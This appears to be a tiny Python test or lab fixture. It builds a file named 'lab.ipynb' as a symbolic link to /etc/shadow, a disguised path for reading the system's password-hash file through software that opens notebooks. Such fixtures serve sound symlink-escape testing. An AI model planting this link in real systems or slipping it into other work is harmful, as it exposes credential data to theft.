def build(folder):
    (folder / "lab.ipynb").symlink_to("/etc/shadow")
